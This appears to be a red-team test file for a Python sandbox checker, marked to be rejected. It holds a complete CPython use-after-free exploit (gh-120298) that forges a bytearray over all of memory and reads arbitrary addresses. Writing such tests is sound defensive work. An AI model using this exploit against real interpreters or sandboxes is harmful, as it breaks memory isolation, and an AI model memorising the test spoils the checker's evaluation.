# expect: reject memory
# why: twentieth red team (the red team's ok_02): an attribute store on the instance under
#   construction runs a data descriptor's setter of the program's, which must be judged
# line: 17
# ok_02 -- goal: raw memory (gh-120298): fake bytearray of length 2**62 at address 0, reads any address
# mechanism: V.__lt__ builds Stack([1, 2]); Stack.__init__ does self.top = items, and `top` is a property whose setter empties vl; the freed V
#   is handed out by Wc.__gt__ raising LookupError(o); bytearray(FAKE)'s buffer reuses the freed block.
# rule slipped: `memory` (memsafe.c). Same root cause as ok_01 but in the constructor itself (the older allowance, fresh_receiver / pure_target):
#   an attribute store on the instance under construction is treated as a plain store; the property setter it runs is never queued for judging.
keep = []
W = lambda v: v.to_bytes(8, "little")
FAKE = (W(0) + W(0) + W(1 << 40) + W(id(bytearray)) + W(1 << 62) + W(1 << 62)
        + W(0) + W(0) + W(1))[:73]
vl = []
class Stack:
    def __init__(self, items):
        self.top = items
    @property
    def top(self): return 1
    @top.setter
    def top(self, v):
        vl.clear()
class V:
    __slots__ = ("a", "b", "c", "d", "e", "f")
    def __eq__(s, o): return False
    def __lt__(s, o):
        Stack([1, 2])
        return NotImplemented
class Wc:
    def __eq__(s, o): return False
    def __gt__(s, o):
        raise LookupError(o)
def raw_memory():
    w = Wc()
    vl.append(V())
    try:
        vl < [w]
    except LookupError as e:
        keep.append(bytearray(FAKE))
        return e.args[0]
mem = raw_memory()
print(type(mem).__name__, hex(len(mem)))
addr = id(12345)
print("read out of bounds: ob_type of 12345 =", hex(int.from_bytes(mem[addr + 8:addr + 16], "little")), "id(int) =", hex(id(int)))
